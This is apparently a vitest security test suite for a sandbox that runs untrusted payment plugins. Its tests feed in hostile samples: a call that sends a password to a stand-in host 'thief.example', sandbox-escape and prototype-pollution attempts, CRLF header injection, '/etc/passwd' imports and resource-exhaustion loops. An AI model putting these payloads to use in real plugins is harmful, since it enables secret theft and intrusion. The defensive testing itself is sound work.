import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { sqbpayTextRules } from '../../plugins/sqbpay/text-rules.ts';
import { checkRuleSet } from '../../src/flow/forwarded-texts/index.ts';
import { PlatformError, type PolledPlatform } from '../../src/plugin-api/index.ts';
import { createPluginHost, declaredOrigins, type PluginHost } from '../../src/plugin-host/index.ts';
import { buildPlatform } from '../../src/plugin-host/installed/build-platform.ts';
import { Sandbox } from '../../src/plugin-host/sandbox/sandbox.ts';
import { captureLog } from '../support/captured-log.ts';
import { registryOf } from './build-platform.ts';

/** A plugin from outside whose login does `body`; `c` is its context. */
const codeThat = (body: string, before = '') => `
import * as api from '#plugin-api';
${before}
export default api.definePlatform({
  id: 'guest', apiVersion: 2, version: '1.0.0', listening: 'polled',
  name: { zh: '客', en: 'Guest' }, hosts: ['guest.example'], payTypes: ['wxpay'],
  settings: [
    { key: 'base_url', type: 'url', required: false, label: { zh: '址', en: 'Address' } },
    { key: 'body', type: 'multiline', required: false, label: { zh: '做', en: 'Do' } },
    { key: 'password', type: 'secret', required: false, label: { zh: '密', en: 'Password' } },
  ],
  terminal: { namedByReceipts: true, label: { zh: '端', en: 'T' }, help: { zh: '无', en: 'None' } },
  facts: [],
  login: { async password(c) { ${body} } },
  async fetchReceipts(c) { return { receipts: [], dropped: [] }; },
});`;

let server: ReturnType<typeof createServer>;
let url: string;
const asked: string[] = [];

beforeAll(async () => {
  server = createServer((req, res) => {
    asked.push(`${req.method} ${req.url} ${req.headers.host}`);
    if (req.url === '/away') return void res.writeHead(302, { location: 'http://localhost:1/stolen' }).end();
    if (req.url === '/huge') return void res.end('x'.repeat(3 * 1024 * 1024));
    res.end('{"ok":true}');
  }).listen(0, '127.0.0.1');
  await new Promise<void>((resolve) => server.once('listening', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => server.close());

async function describeCode(content: string): Promise<string> {
  const sandbox = new Sandbox(content);
  return sandbox.describe().finally(() => sandbox.close());
}

async function guest(content: string): Promise<PluginHost> {
  const manifest = await describeCode(content);
  const built = buildPlatform(
    { kind: 'code', content, manifest },
    { checkTextRules: checkRuleSet, allowPrivate: true },
  );
  if (!built.platform) throw new Error(built.problem);
  return createPluginHost({ registry: registryOf(built.platform), log: captureLog().log });
}

/** Does what its account's settings say, so that one thread is enough for all that is tried. */
const doesWhatItIsTold = codeThat(
  "return await (0, eval)('(async (c, api) => {' + c.settings.body + '})')(c, api);",
);
let told: PluginHost;
beforeAll(async () => {
  told = await guest(doesWhatItIsTold);
});
afterAll(() => told.close());

const call = (settings: Record<string, string> = {}) => ({
  settings: { base_url: url, password: 'canary-secret', ...settings },
  session: null,
  now: 1_800_000_000_000,
});

/** What the login gave as its session. */
async function given(body: string): Promise<unknown> {
  const outcome = await told.login('guest', call({ body }));
  return (outcome.session as { own?: unknown } | null)?.own;
}

async function failure(body: string): Promise<PlatformError> {
  const error = await told.login('guest', call({ body })).then(
    () => new Error('it did not fail'),
    (reason: unknown) => reason,
  );
  if (!(error instanceof PlatformError)) throw error;
  return error;
}

describe('a plugin from outside is stopped, with a clear state, when it', () => {
  test.each([
    ['computes without end', 'while (true) {}', '计算太久'],
    [
      'computes without end, and catches what stops it',
      'while (true) { try { while (true) {} } catch {} }',
      '计算太久',
    ],
    ['computes without end in a promise', 'await Promise.resolve(); for (;;) await null;', '计算太久'],
    ['takes all memory', "const a = []; while (true) a.push('x'.repeat(1e5) + a.length)", '内存太多'],
    ['takes all memory as bytes', 'const a = []; while (true) a.push(new Uint8Array(1e6))', '内存太多'],
    ['waits for what never comes', 'await new Promise(() => {})', '停住'],
    ['gives more than can be taken', "return { done: 'x'.repeat(9e6) }", '给出的内容太多'],
    ['sends too many requests', 'for (;;) await c.http.get(c.settings.base_url)', '请求太多'],
    [
      'calls a host that it did not name',
      "await c.http.get('https://thief.example/?' + c.settings.password)",
      '没有声明这个地址',
    ],
    ['calls a host by another port', "await c.http.get('https://guest.example:8443/')", '没有声明这个地址'],
    ['reads an answer without end', "await c.http.get(c.settings.base_url + '/huge')", '太大'],
    [
      'sends many requests at a time',
      'await Promise.all(Array.from({ length: 60 }, () => c.http.get(c.settings.base_url)))',
      '请求太多',
    ],
    [
      'sends more than can be kept in mind',
      'const body = new Uint8Array(3e6); await Promise.all([1, 2, 3, 4].map(() => c.http.send({ url: c.settings.base_url, body })))',
      '给出的内容太多',
    ],
    ['keeps its session for ever', 'for (;;) c.keepSession({})', '请求太多'],
    ['keeps sessions without end', "const s = 'x'.repeat(3e6); for (;;) c.keepSession(s)", '插件出错'],
    ['builds texts without end', "let s = 'x'; for (;;) s += s", '插件出错'],
    ['nests without end', "return { done: JSON.parse('['.repeat(2e5) + ']'.repeat(2e5)) }", '插件出错'],
    ['lets a tool compute without end', "for (;;) api.tools.hash('sha512', 'x'.repeat(1e6))", '计算太久'],
    ['gives what never comes', 'return { then() {} }', '停住'],
    ['throws nothing', 'throw null', '插件出错'],
    ['throws what throws', "throw { get message() { throw new Error('again') } }", '插件出错'],
    ['throws a proxy', 'throw new Proxy({}, { get() { throw 1 } })', '插件出错'],
    ['recurses without end', 'const f = () => f() + 1; return { done: f() }', '插件出错'],
    ['gives no step', 'return 7', '插件出错'],
    [
      'gives a picture that is none',
      "return { ask: { picture: 'data:image/svg+xml;base64,AAAA', hint: { zh: 'a', en: 'b' } } }",
      '插件出错',
    ],
    ['gives a session without end', "return { done: 'x'.repeat(1e5) }", '插件出错'],
    [
      'keeps a session without end',
      "c.keepSession('x'.repeat(1e5)); await c.http.get(c.settings.base_url); return { done: 1 }",
      '插件出错',
    ],
  ])('%s', async (_name, body, words) => {
    const error = await failure(body);
    expect(error.words.zh).toContain(words);
    expect(['broken', 'unreachable']).toContain(error.kind);
    expect(`${error.stack} ${JSON.stringify(error)}`).not.toContain('canary-secret');
  });

  test('is sent elsewhere by a redirect: it gets the answer, and nobody is asked there', async () => {
    expect(
      await given("const a = await c.http.get(c.settings.base_url + '/away'); return { done: a.status }"),
    ).toBe(302);
    expect(asked.filter((one) => one.includes('stolen'))).toEqual([]);
  });

  test.each([
    ['in a header’s value', "headers: { 'x-a': 'b\\r\\nx-injected: 1' }"],
    ['in a header’s name', "headers: { 'x-a: b\\r\\nx-injected': '1' }"],
    ['in the method', "method: 'GET / HTTP/1.1\\r\\nx-injected: 1'"],
  ])('a line of its own %s does not get through', async (_where, more) => {
    const body = `await c.http.send({ url: c.settings.base_url + '/lines', ${more} }); return { done: 1 }`;
    await failure(body);
    expect(asked.filter((one) => one.includes('lines'))).toEqual([]);
  });

  test('it can’t speak for another host, nor bring a proxy’s word of where it comes from', async () => {
    await given(
      "await c.http.send({ url: c.settings.base_url + '/whose', headers: { Host: 'other.example', 'Transfer-Encoding': 'chunked' } }); return { done: 1 }",
    );
    expect(asked.at(-1)).toBe(`GET /whose ${new URL(url).host}`);
  });

  test('a pattern that looks for ever is ended with its thread, and the next call works', async () => {
    const content = codeThat(
      "if (c.settings.password === 'bad') /^(a+)+$/.test('a'.repeat(60) + 'b'); return { done: 1 }",
    );
    const built = buildPlatform(
      { kind: 'code', content, manifest: await describeCode(content) },
      { checkTextRules: checkRuleSet, allowPrivate: true },
    );
    const host = createPluginHost({
      registry: registryOf(built.platform as PolledPlatform),
      log: captureLog().log,
      // What is ended begins anew, also on a machine that is busy.
      limits: { callMs: 6_000 },
    });
    onTestFinished(() => host.close());
    await expect(host.login('guest', call({ password: 'bad' }))).rejects.toMatchObject({
      name: 'PlatformError',
    });
    await expect(host.login('guest', call({ password: 'good' }))).resolves.toMatchObject({ step: 'done' });
  });
});

describe('rows of a plugin from outside', () => {
  const rows = (given: string) =>
    guest(
      codeThat('return { done: 1 }').replace('return { receipts: [], dropped: [] };', `return ${given};`),
    );
  const fetched = async (given: string) => {
    const host = await rows(given);
    onTestFinished(() => host.close());
    return host.fetchReceipts('guest', call(), { from: 0, to: 1_800_000_000_000 }).then(
      (answer) => answer,
      (error: PlatformError) => error,
    );
  };

  test.each([
    ['millions of nothing', '{ receipts: Array(2e6).fill(0) }'],
    ['a hundred thousand wrong ones', '{ receipts: Array.from({ length: 1e5 }, () => ({})) }'],
    ['no list', '{ receipts: { length: 3 } }'],
    ['no list of what it dropped', '{ receipts: [], dropped: 7 }'],
  ])('%s: broken', async (_name, given) => {
    expect(await fetched(given)).toMatchObject({ name: 'PlatformError', kind: 'broken' });
  });

  test('what it says that it dropped may be anything, and a time that is none is not kept', async () => {
    const found = await fetched(
      "{ receipts: [], dropped: [null, 7, { problem: { toString: 1 } }, { problem: 'x'.repeat(9999) }], readUntil: 'tomorrow' }",
    );
    expect(found).toMatchObject({ receipts: [], dropped: { length: 4 } });
    expect(found).not.toHaveProperty('readUntil');
  });
});

describe('in a sandbox there is', () => {
  test('nothing of Node.js, of a browser, or of the house', async () => {
    const names = [
      ...['process', 'require', 'module', 'Buffer', 'fetch', 'XMLHttpRequest', 'WebSocket', 'setTimeout'],
      ...['WebAssembly', 'Worker', 'performance', 'crypto', 'console', 'std', 'os', 'navigator', '__host'],
    ];
    const found = await given(
      `return { done: ${JSON.stringify(names)}.filter((name) => name in globalThis || eval('typeof ' + name) !== 'undefined') }`,
    );
    expect(found).toEqual([]);
  });

  const files = [
    'fs',
    'node:fs',
    'node:process',
    'inside',
    'plugin',
    './other.js',
    '/etc/passwd',
    'file:///etc/passwd',
  ];
  test.each([...files, 'quickjs:std', ''])('no import of “%s”', async (name) => {
    const tried = await given(
      `try { await import(${JSON.stringify(name)}); return { done: 'in' } } catch (e) { return { done: e.message } }`,
    );
    expect(tried).toContain('imports #plugin-api and nothing else');
  });

  test('nor where it is read', async () => {
    const importing = `import fs from 'node:fs';\n${doesWhatItIsTold}`;
    await expect(describeCode(importing)).rejects.toThrow('imports #plugin-api and nothing else');
  });

  test('no way out by what the house handed in: its functions belong to the sandbox', async () => {
    const tried = await given(`
      const seen = [];
      for (const one of [c.http.get, c.keepSession, api.tools.md5, api.PlatformError, c.signal.throwIfAborted]) {
        const f = one.constructor('return typeof process + typeof globalThis.process + typeof require')();
        seen.push(f, Object.getPrototypeOf(one) === Function.prototype || Object.getPrototypeOf(one) === Error);
      }
      return { done: seen };`);
    expect(tried).toEqual(Array.from({ length: 5 }, () => ['undefinedundefinedundefined', true]).flat());
  });

  test('nothing of the house that its prototypes would reach', async () => {
    await given(
      "Object.prototype.polluted = 'yes'; Array.prototype.map = () => { throw 1 }; JSON.stringify = () => 'no'; return { done: 1 }",
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const own = await given('return JSON.parse(\'{"done":{"__proto__":{"polluted":1},"constructor":2}}\')');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.keys(own as object)).toContain('constructor');
  });

  test('the clock of the call, and no chance but that of the tools', async () => {
    expect(
      await given(
        'return { done: [Date.now(), new Date().getTime(), typeof Math.random, api.tools.randomBytes(4).length] }',
      ),
    ).toEqual([1_800_000_000_000, 1_800_000_000_000, 'undefined', 4]);
  });

  test('every tool of the contract, with the same answers', async () => {
    const { tools } = await import('../../src/plugin-api/index.ts');
    const key = { key: '0123456789abcdef', iv: 'fedcba9876543210' };
    const done =
      await given(`const t = api.tools; const k = { key: '0123456789abcdef', iv: 'fedcba9876543210' };
      return { done: [t.md5('中'), t.sm3('中'), t.hmac('sha256', 'k', 'v', 'base64'), t.hex(t.bytes('中文', 'gbk')),
        t.text(t.unwritten('d6d0', 'hex'), 'gbk'), t.base64(t.aes.encrypt('cbc', k, '中')),
        t.text(t.aes.decrypt('cbc', k, t.aes.encrypt('cbc', k, '中'))), t.base64url(t.sm4.encrypt('ecb', { key: k.key }, 'x')),
        t.formatTime(0, 'YYYY-MM-DD HH:mm:ss'), api.parseMoney('1.23'), t.rsa.read('none'),
        String(new URLSearchParams({ a: '中 +*', b: "x'()~!" }))] }`);
    expect(done).toEqual([
      ...[tools.md5('中'), tools.sm3('中'), tools.hmac('sha256', 'k', 'v', 'base64'), 'd6d0cec4', '中'],
      ...[tools.base64(tools.aes.encrypt('cbc', key, '中')), '中'],
      ...[tools.base64url(tools.sm4.encrypt('ecb', { key: key.key }, 'x')), '1970-01-01 08:00:00', 123, null],
      String(new URLSearchParams({ a: '中 +*', b: "x'()~!" })),
    ]);
    expect(
      await given("try { api.tools.bytes('\\u{1F600}', 'gbk') } catch (e) { return { done: e.name } }"),
    ).toBe('RangeError');
  });

  test('no memory of another call, whoever made it', async () => {
    const host = await guest(
      codeThat(
        "globalThis.seen = (globalThis.seen ?? 0) + 1; kept.push(c.settings.password); api.tools.mine = c.settings.password; return { done: [seen, kept, Object.keys(api.tools).includes('mine')] }",
        'const kept = [];',
      ),
    );
    onTestFinished(() => host.close());
    for (const password of ['one', 'two', 'three']) {
      const { session } = await host.login('guest', call({ password }));
      expect(session).toMatchObject({ own: [1, [password], true] });
    }
  });

  test('many at once, each with its own', async () => {
    const body =
      'const a = await c.http.get(c.settings.base_url); return { done: [c.settings.password, a.json().ok] }';
    const all = Array.from({ length: 12 }, (_, index) => String(index));
    const outcomes = await Promise.all(all.map((password) => told.login('guest', call({ password, body }))));
    expect(outcomes.map(({ session }) => (session as { own: unknown }).own)).toEqual(
      all.map((one) => [one, true]),
    );
  });
});

describe('what a plugin from outside says of itself', () => {
  const deps = { checkTextRules: checkRuleSet, allowPrivate: false };
  const built = async (content: string) =>
    buildPlatform({ kind: 'code', content, manifest: await describeCode(content) }, deps);

  test.each([
    ['pictures from anywhere', 'picturesAnywhere: true,', 'picturesAnywhere: would let it call any host'],
    [
      'a function that is called without waiting',
      'makesBills: () => true,',
      'makesBills: a plugin from outside can’t have',
    ],
    ['another version of the contract', 'apiVersion: 1,', 'made for version 1'],
  ])('%s: refused', async (_name, more, problem) => {
    const code = codeThat('return { done: 1 }').replace('facts: [],', `facts: [], ${more}`);
    expect((await built(code)).problem).toContain(problem);
  });

  test.each([
    ['is no plugin', 'export default 7', /expected object/],
    ['is no code', 'export default {', /./],
    ['throws', "throw new Error('not here')", /not here/],
    ['never ends being read', 'while (true) {} export default 1', /time/],
    ['waits while being read', 'await new Promise(() => {}); export default 1', /stuck/],
  ])('one that %s is not taken', async (_name, code, problem) => {
    const found = await built(code).then(
      ({ problem: told }) => String(told),
      (error: Error) => error.message,
    );
    expect(found).toMatch(problem);
  });

  test('rules for texts that would be money by themselves: refused; those that wait for their owner: taken', async () => {
    const apps = [{ package: 'com.wosai.cashbar', name: { zh: '甲', en: 'A' } }];
    const problem = async (more: object) => {
      const rules = sqbpayTextRules.rules.filter(({ payType }) => payType === 'wxpay');
      const textRules = {
        ...sqbpayTextRules,
        platform: 'guest',
        rules: rules.map((rule) => ({ ...rule, ...more })),
      };
      const told = `facts: [], told: ${JSON.stringify({ apps, textRules })},`;
      return (await built(codeThat('return { done: 1 }').replace('facts: [],', told))).problem;
    };
    expect(await problem({})).toContain('must be likely');
    expect(await problem({ grade: 'likely' })).toBeNull();
  });

  test('an address in its form that it fills in itself is one that its owner must know of', async () => {
    const code = codeThat('return { done: 1 }').replace(
      "type: 'url', required",
      "type: 'url', default: 'https://thief.example/x', required",
    );
    const { platform } = await built(code);
    expect(platform && declaredOrigins(platform)).toEqual(['https://guest.example', 'https://thief.example']);
  });

  test('one that takes the contract as an argument is taken as well', async () => {
    const code = codeThat('return { done: api.tools.md5("") }')
      .replace("import * as api from '#plugin-api';", '')
      .replace('export default api.definePlatform({', 'export default (api) => api.definePlatform({');
    expect((await built(code)).platform?.id).toBe('guest');
  });
});
